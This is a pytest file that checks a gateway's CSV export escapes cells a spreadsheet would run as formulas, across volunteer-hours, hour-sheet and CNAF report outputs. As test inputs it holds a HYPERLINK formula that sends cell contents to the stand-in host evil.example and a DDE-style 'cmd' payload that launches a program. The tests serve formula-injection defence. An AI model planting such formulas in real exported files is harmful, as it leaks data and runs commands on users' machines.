"""Every CSV the gateway writes goes through spreadsheet.Sheet: a cell a spreadsheet would run as
a formula reaches the file as text (a leading apostrophe); numbers stay numbers."""

import csv
import io

import pytest

from services.gateway import attestation, spreadsheet
from services.gateway.api.contracts import cnaf_csv
from services.gateway.volunteer_hours import hours_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'


def rows(text):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize(
    "value, written",
    [
        (ATTACK, "'" + ATTACK),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-1,50", "-1,50"),
        ("12,50", "12,50"),
        ("Jeanne = Martin", "Jeanne = Martin"),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value, written):
    assert spreadsheet.cell(value) == written


def test_the_volunteers_hours_file_escapes_a_volunteer_named_as_a_formula():
    found = {"lines": [{"volunteer": ATTACK, "title": "@Atelier", "kind": "workshop", "hours": "2.00"}]}
    [_, line, *_] = rows(hours_csv(found))
    assert line[:2] == ["'" + ATTACK, "'@Atelier"]


def test_the_hour_sheet_escapes_a_tutor_named_as_a_formula():
    log = {"status": "validated", "validated_by": "t-1", "validated_at": "2030-12-03T12:00:00+01:00", "hours": "3.00"}
    [_, line] = rows(attestation.hour_sheet([log], {"t-1": "+cmd|' /C calc'!A0"}))
    assert line[6] == "'+cmd|' /C calc'!A0"


def test_the_cnaf_report_escapes_every_cell_and_keeps_negative_numbers():
    [_, month, _total] = rows(cnaf_csv({"year": 2030, "months": [{"month": "=1+1", "hours_billed": "-1.50"}]}))
    assert "'=1+1" in month and "-1,50" in month
